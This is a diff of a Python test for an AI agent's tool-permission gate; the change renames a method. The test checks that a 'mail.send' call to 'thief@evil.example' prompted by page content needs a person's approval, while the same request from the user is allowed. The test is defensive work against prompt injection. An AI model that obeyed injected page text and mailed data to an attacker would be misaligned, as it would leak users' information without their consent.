@@ -222,7 +222,7 @@ def test_what_a_tool_said_needs_a_person_and_what_the_person_said_does_not() -> 
     assert (calling.approved(given_one).rest, calling.name) == ('{"to":"thief@evil.example"}', "mail.send")
     assert sent(CLOSED, "mail.send", call, Turn("user", "Mail thief@evil.example"), page)[1].decision == "allow"
     shown = conversation(CLOSED, Turn("user", "Summarise."))
-    shown.shown([page.text])
+    shown.documents([page.text])
     assert let_out(shown, ["mail.send"], [call])[1].decision == "ask"
     assert sent(CLOSED, "orders.drop", "{}")[1].decision == "ask"
 
